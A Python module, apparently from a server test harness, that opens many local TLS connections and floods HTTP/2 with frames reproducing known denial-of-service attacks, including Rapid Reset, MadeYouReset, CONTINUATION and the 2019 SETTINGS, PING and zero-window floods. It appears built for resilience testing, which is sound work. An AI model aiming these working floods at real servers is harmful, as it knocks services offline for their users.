# SPDX-License-Identifier: Apache-2.0
"""Clients that flood HTTP/2 with frames, each in a process of its own: as fast as they may on one connection, and then on the next."""

import collections
import itertools
import multiprocessing
import socket
import ssl
import struct

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = struct.pack(">I", 8)

# Frames in one write, and connections that are held where the flood is to hold them.
BATCH = 50
HELD = 25


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(value):
    length = len(value)
    if length < 127:
        return bytes((length,)) + value.encode()
    prefix, length = b"\x7f", length - 127
    while length >= 128:
        prefix += bytes((length & 127 | 128,))
        length >>= 7
    return prefix + bytes((length,)) + value.encode()


def block(*fields):
    """Names and values in turn, as literals that are not indexed (RFC 7541 section 6.2.2)."""
    return b"".join(b"\0" + text(name) + text(value) for name, value in zip(fields[::2], fields[1::2]))


def request(method, path, *more):
    return block(":method", method, ":scheme", "https", ":authority", "localhost", ":path", path, *more)


class Flood:
    """
    first: sent once on each connection
    then: what follows without end, by its number; None if the connection is held instead
    """

    def __init__(self, name, first=b"", then=None, settings=b""):
        self.name, self.first, self.then, self.settings = name, first, then, settings


def floods(path, token):
    """Of strangers, who have no token, and of callers, whose requests reach an upstream."""
    bearer = ("authorization", "Bearer " + token)
    return requests(path) + frames() + requests(path, *bearer) + answers(path, *bearer)


def requests(path, *fields):
    get, post = request("GET", path, *fields), request("POST", path, *fields)
    who = ", by a caller" if fields else ""

    def head(stream, flags=END_HEADERS):
        return frame(HEADERS, flags, stream, post)

    def asked(stream):
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, get)

    def taken_back(stream):
        return frame(RST_STREAM, 0, stream, CANCEL) if stream > 0 else b""

    return [
        Flood("rapid reset (CVE-2023-44487)" + who, then=lambda i: asked(2 * i + 1) + taken_back(2 * i + 1)),
        # What the write before has asked for: on its way to the upstream, if it goes there.
        Flood("resets that come later" + who, then=lambda i: asked(2 * i + 1) + taken_back(2 * (i - BATCH) + 1)),
        Flood("MadeYouReset (CVE-2025-8671)" + who, then=lambda i: head(2 * i + 1) + frame(WINDOW_UPDATE, 0, 2 * i + 1, bytes(4))),
        Flood("CONTINUATION (CVE-2024-27316)" + who, head(1, 0), lambda i: frame(CONTINUATION, 0, 1, block("x", "y" * 500))),
        Flood("empty CONTINUATION" + who, head(1, 0), lambda i: frame(CONTINUATION, 0, 1)),
        Flood("empty DATA (CVE-2019-9518)" + who, head(1), lambda i: frame(DATA, 0, 1)),
        Flood("half a header block" + who, head(1, 0)),
    ]


def frames():
    return [
        Flood("SETTINGS (CVE-2019-9515)", then=lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 256 + i % 2))),
        Flood("PING (CVE-2019-9512)", then=lambda i: frame(PING, 0, 0, bytes(8))),
        Flood("PRIORITY (CVE-2019-9513)", then=lambda i: frame(PRIORITY, 0, 2 * i + 1, bytes((0, 0, 0, 0, 1)))),
        Flood("WINDOW_UPDATE by a byte", then=lambda i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    ]


def answers(path, *fields):
    large = request("GET", path + "/bytes/1m", *fields)
    return [
        Flood("shut windows (CVE-2019-9517)", b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, large) for i in range(100)),
              settings=struct.pack(">HI", 4, 0)),
    ]


class Flooding:
    """Floods from that many processes while it is entered."""

    def __init__(self, flood, port, certificates, source, processes):
        self.connections = multiprocessing.Value("l", 0)
        self.frames = multiprocessing.Value("l", 0)
        self.stopped = multiprocessing.Event()
        arguments = (flood, port, certificates, source)
        fork = multiprocessing.get_context("fork")
        self.processes = [fork.Process(target=self._run, args=arguments, daemon=True) for _ in range(processes)]

    def __enter__(self):
        for each in self.processes:
            each.start()
        return self

    def __exit__(self, *_):
        self.stopped.set()
        for each in self.processes:
            each.join(10)
            if each.is_alive():
                each.kill()
                each.join()

    def _run(self, flood, port, certificates, source):
        context = ssl.create_default_context(cafile=certificates)
        context.set_alpn_protocols(["h2"])
        held = collections.deque()
        while not self.stopped.is_set():
            try:
                connection = self._open(context, port, source, flood)
                if flood.then is None:
                    held.append(connection)
                    if len(held) > HELD:
                        held.popleft().close()
                else:
                    with connection:
                        self._send(connection, flood.then)
            except OSError:
                # Ended, or not let in: the next one.
                pass

    def _open(self, context, port, source, flood):
        plain = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))
        connection = context.wrap_socket(plain, server_hostname="localhost")
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, flood.settings) + flood.first)
        with self.connections.get_lock():
            self.connections.value += 1
        return connection

    def _send(self, connection, then):
        for batch in itertools.count():
            if self.stopped.is_set():
                return
            connection.sendall(b"".join(then(batch * BATCH + each) for each in range(BATCH)))
            with self.frames.get_lock():
                self.frames.value += BATCH
